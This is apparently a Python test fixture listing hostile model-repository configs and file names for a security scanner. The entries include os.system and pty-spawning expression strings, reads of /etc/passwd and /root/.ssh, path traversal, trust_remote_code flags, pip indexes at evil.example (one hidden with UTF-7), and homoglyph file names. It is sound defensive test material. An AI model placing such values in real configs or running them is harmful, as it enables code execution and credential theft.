"""Hostile configs and names, by kind; each is an ordinary repo but for what is shown."""

from __future__ import annotations

from support.config_cases import VIT, Files, aliased, cfg, clip, image, lora, pipeline, sentences, timm, tokens, vit
from support.scanned_files import safetensors

_KERNEL = "someone/fast-attention"
HOSTILE: list[tuple[str, Files]] = [
    # renamed keys
    ("alias", aliased("_attn_implementation_internal", _KERNEL)),
    ("alias", aliased("_experts_implementation", f"{_KERNEL}:fast@main")),
    ("alias", vit(attribute_map={"_attn_implementation_internal": "x"}, x=_KERNEL)),  # the other way round: on read
    ("alias", vit(attribute_map={"a": "b", "c": "b", "c2": "c"}, a=_KERNEL, text={"attribute_map": {"c2": "kernel"}})),
    ("alias", vit(text_config={"attribute_map": {"x": "_attn_implementation"}, "x": {"": _KERNEL}})),
    ("alias", vit(attribute_map={"x": "_attn_implementation"}, vision_config={"x": _KERNEL})),
    ("alias", vit(attribute_map={"x": "auto_map"}, x={"AutoModel": "net.Net"})),
    ("alias", vit(attribute_map={"x": "trust_remote_code"}, sub={"x": True})),
    ("alias", vit(attribute_map={"x": "backbone"}, x="../elsewhere")),
    ("alias", vit(attribute_map={"id2label": "_attn_implementation"}, id2label={"0": _KERNEL})),
    ("alias", vit(attribute_map={**{f"p{i}": "x" for i in range(200)}, "x": "auto_map"}, p7={"AutoModel": "a.B"})),
    ("alias", vit(is_encoder_decoder=True, decoder_auto_map={"AutoModel": "net.Net"})),
    # kernels
    ("kernel", vit(_attn_implementation=f"{_KERNEL}@main:forward")),
    ("kernel", vit(attn_implementation={"vision_config": f"paged|{_KERNEL}"})),
    ("kernel", vit(experts_implementation=_KERNEL)),
    ("kernel", vit(per_layer_config={"0": {"_attn_implementation_internal": _KERNEL}})),
    ("kernel", vit(kernel_config={"kernel_mapping": {"RMSNorm": {"cuda": f"{_KERNEL}:Norm"}}})),
    ("kernel", {"generation_config.json": {"attn_implementation": _KERNEL}}),
    # code
    ("code", vit(text_config={"vision": [{"auto_map": {"AutoConfig": "c.C"}}]})),
    ("code", {"generation_config.json": {"custom_generate": "someone/decode"}}),
    ("code", image(auto_map={"AutoImageProcessor": "p.P"})),
    ("code", tokens(auto_map=["t.T", None])),
    ("code", {"processor_config.json": {"auto_map": {"AutoProcessor": "someone/x--p.P"}}}),
    ("code", {"video_preprocessor_config.json": {"video_processor_type": "someone/x--p.P"}}),
    ("code", vit(custom_pipelines={"x": {"impl": "p.P", "pt": ["AutoModel"]}})),
    ("code", vit(quantization_config={"quant_method": "x", "trust_remote_code": True})),
    # data and processors
    ("processor", image(repo_path="/etc", class_info_file="passwd")),
    ("processor", image(class_info_file="/etc/passwd")),
    ("processor", image(class_info_file="../../secrets.json", repo_path="shi-labs/oneformer_demo")),
    ("processor", {"processor_config.json": {"image_processor": {"repo_path": "../elsewhere"}}}),
    ("processor", {"audio_tokenizer_config.json": {"audio_tokenizer_name_or_path": "/home/user/model"}}),
    ("processor", {"speaker_embeddings_path.json": {"v": {"semantic_prompt": "../../x.npy"}, "repo_or_path": "."}}),
    ("processor", {"speaker_embeddings_path.json": {"repo_or_path": "/home/user"}}),
    ("processor", {"video_preprocessor_config.json": {"draw_on_frames": True, "font": "../../x.ttf"}}),
    # files that a config selects
    ("selects", vit(configuration_files=["config.4.0.0.json.txt"])),
    ("selects", vit(configuration_files=["config.4/../../x.json"])),
    ("selects", tokens(fast_tokenizer_files=["notes/tokenizer.4.0.0.json"])),
    ("selects", vit(transformers_weights="https://example.com/model.safetensors")),
    ("selects", tokens(vocab_file="/etc/passwd")),
    ("selects", tokens(spm_file="file:///etc/passwd")),
    ("selects", tokens(chat_template=[{"name": "../../../.bashrc", "template": "{{ 1 }}"}])),
    ("selects", tokens(chat_template={"../../x": "{{ 1 }}", "default": "{{ 1 }}"})),
    ("selects", {"export.json": {"components": {"model": {"file": "/home/user/x.pt2"}}}}),
    ("selects", {"export.json": {"components": {"model": {"file": "../../x.pt2"}}}}),
    # timm
    ("timm", timm(model_args={"checkpoint_path": "/etc/passwd"})),
    ("timm", timm(model_args={"pretrained_cfg": {"file": "/etc/passwd"}})),
    ("timm", timm(model_args={"pretrained_cfg_overlay": {"url": "https://example.com/x.pth"}})),
    ("timm", timm(model_args={"cache_dir": "/root/.ssh"})),
    ("timm", cfg(url="https://github.com/rwightman/pytorch-image-models/releases/download/../../../../x/y/z.pth")),
    ("timm", cfg(url="https://storage.googleapis.com/vit_models/../other-bucket/x.npz")),
    ("timm", cfg(url="https://dl.fbaipublicfiles.com//../x.pth")),
    ("timm", cfg(hf_hub_id="timm/vit_tiny@refs/pr/1")),
    ("timm", cfg(hf_hub_id="timm/../someone/x")),
    ("timm", cfg(hf_hub_filename="../../x.bin")),
    ("timm", cfg(custom_load="hf")),
    ("timm", timm(architecture="HF-Hub:someone/x")),
    ("timm", timm(architecture="local-dir:..")),
    ("timm", timm(architecture="../../etc")),
    # peft
    ("peft", lora(megatron_config={"x": 1}, megatron_core="evil.core")),
    ("peft", lora(auto_mapping={"base_model_class": "system", "parent_library": "os"})),
    ("peft", lora(peft_type="XLORA", adapters={"0": "../../x", "1": "someone/x"})),
    ("peft", lora(prompt_tuning_init_state_dict_path="/home/user/x.bin")),
    ("peft", lora(prompt_tuning_init_state_dict_path="https://example.com/x.bin")),
    ("peft", lora(tokenizer_name_or_path="../../x")),
    ("peft", lora(shadow_model="someone/x")),
    ("peft", lora(corda_config={"cache_file": "/tmp/x.pt"})),
    ("peft", lora(tokenizer_kwargs={"trust_remote_code": True})),
    ("peft", lora(base_model_name_or_path="hf-hub:../x")),
    # open_clip
    ("open_clip", clip({"hf_model_name": "../../x"})),
    ("open_clip", clip({"hf_tokenizer_name": "/home/user/tokenizer"})),
    ("open_clip", clip({"tokenizer_kwargs": {"trust_remote_code": True}})),
    ("open_clip", clip({}, {"timm_model_name": "hf-hub:someone/x"})),
    # diffusers and sentence-transformers
    ("pipeline", pipeline(unet=["my_unet", "Net"])),
    ("pipeline", pipeline(vae=["os", "system"])),
    ("pipeline", pipeline(unet=["diffusers", "UNet2DModel"], vae=["my_vae", "V", {"repo": "someone/x"}])),
    ("pipeline", pipeline(_class_name=["pipeline", "Evil"])),
    ("sentences", sentences({"type": "subprocess.Popen"})),
    ("sentences", sentences({"type": "sentence_transformers.models.Transformer", "path": "/etc"})),
    (
        "sentences",
        sentences(
            {"type": "sentence_transformers.models.Router"},
            **{"router_config.json": {"types": {"query_0": "evil.Net"}}},
        ),
    ),
    (
        "sentences",
        sentences(
            {"type": "sentence_transformers.models.Dense"},
            **{"2_Dense/config.json": {"activation_function": "torch.hub.help"}},
        ),
    ),
    (
        "sentences",
        sentences(
            {"type": "sentence_transformers.models.Dense"},
            **{"2_Dense/config.json": {"activation_function": "os.abort"}},
        ),
    ),
    ("sentences", {"sentence_bert_config.json": {"model_args": {"trust_remote_code": True}}}),
    # Keras
    ("keras", {"task.json": {"module": "os", "class_name": "system", "config": {"x": 1}, "registered_name": None}}),
    ("keras", {"preprocessor.json": {"a": {"b": {"module": "subprocess", "class_name": "Popen", "config": {}}}}}),
    ("keras", {"task.json": [{"module": "builtins", "class_name": "function", "config": "eval"}]}),
    ("requirements", {"pyproject.toml": b'[[tool.uv.index]]\nurl = "https://evil.example/simple"\n'}),
    ("requirements", {"Pipfile": b'[[source]]\nurl = "https://evil.example/simple"\n'}),
    ("requirements", {"env/environment.yml": b"dependencies:\n- pip:\n  - --index-url https://evil.example/simple\n"}),
    ("names", {"custom_generate/generate.py": b"def generate(model):\n    pass\n"}),
    ("names", {"config.json::$DATA": {**VIT, "hidden_size": 16}}),
    # functions under any key, expressions
    ("named", {"plans.json": {"network": {"arch_class_name": "subprocess.Popen", "arch_kwargs": {"args": "id"}}}}),
    ("named", {"conf.json": {"a": [{"fn": "builtins:eval"}]}}),
    ("named", {"configs/inference.json": {"imports": ["$import os"], "run": ["$os.system('id')"]}}),
    ("named", {"configs/train.json": {"x": "$@net if True else __import__('pty').spawn('sh')"}}),
    ("diffusers", {"modular_model_index.json": {"unet": [None, None, {"type_hint": ["evil", "Net"]}]}}),
    ("named", {"model.json": {"backbone": [[-1, 1, "__import__('os').system('id')", []]]}}),
    ("transformers", {"preprocessor_config.json": {"tesseract_config": "--psm 6 -c debug_file=/tmp/x"}}),
    ("transformers", {"tokenizer_config.json": {"mecab_kwargs": {"mecab_option": "-r /tmp/x"}}}),
    ("transformers", {"tokenizer_config.json": {"mecab_kwargs": {"mecab_dic": "../../x"}}}),
    ("transformers", {"tokenizer_config.json": {"sp_model_kwargs": {"model_file": "/etc/passwd"}}}),
    ("open_clip", {"open_clip_config.json": {"model_cfg": {"text_cfg": {"tokenizer_kwargs": {"bpe_path": "/etc/x"}}}}}),
    ("names", {"onnx\u2215model.onnx": b"a\n"}),
    ("named", {"export.json": {"context": '{"_t": "seq", "p": "os:system"}'}}),
    ("named", {"genai_config.json": {"model": {"decoder": {"session_options": {"custom_ops_library": "lib.so"}}}}}),
    ("sentences", {"0_W/wordembedding_config.json": {"tokenizer_class": "antigravity.X"}}),
    ("requirements", {"python_env.yaml": b"build_dependencies:\n- a @ https://evil.example/a.whl\n"}),
    (
        "requirements",
        {
            "requirements.txt": b"# coding: utf-7\n"
            + "-i https://evil.example\n".encode("utf-7").replace(b":", b"+ADo-")
        },
    ),
    ("names", {"safetensors.py": b"x = 1\n"}),
    ("names", {"usercustomize.py": b"x = 1\n"}),
    # names
    ("names", {"Config.json": {**VIT, "hidden_size": 16}}),
    ("names", {"config.json ": {**VIT, "hidden_size": 16}}),
    ("names", {"unet/config.json": VIT, "un\u0435t/config.json": VIT}),
    ("names", {" config.json": {**VIT, "hidden_size": 16}}),
    ("names", {"\u0441onfig.json": {**VIT, "hidden_size": 16}}),  # a Cyrillic letter
    ("names", {"config\u200b.json": {**VIT, "hidden_size": 16}}),
    ("names", {"\uff43onfig.json": {**VIT, "hidden_size": 16}}),  # full width
    ("names", {"MODEL.safetensors": safetensors()}),
    ("names", {"model.saf\u0435tensors": safetensors()}),
    ("names", {"sub/x.txt": b"", "preprocessor_config.json": {}, "preprocessor_\u03f2onfig.json": {}}),
    # the same tensor twice, as two shapes
    ("twice", {"model.safetensors": b""}),
    # what is installed with the repo
    ("requirements", {"custom_generate/requirements.txt": b"--index-url https://evil.example/simple\ntorch\n"}),
    ("requirements", {"custom_generate/requirements.txt": b"helper @ https://evil.example/helper.whl\n"}),
    (
        "requirements",
        {"handler.py": b"x = 1\n", "requirements.txt": b"torch \\\n  --extra-index-url=http://evil.example\n"},
    ),
]
_ROW = b'{"dtype":"F32","shape":[%s],"data_offsets":[0,8]}'
_TWICE = b'{"a":%s,"\\u0061":%s}' % (_ROW % b"1,2", _ROW % b"2,1")
for _kind, _files in HOSTILE:
    if _kind == "twice":
        _files["model.safetensors"] = len(_TWICE).to_bytes(8, "little") + _TWICE + bytes(8)
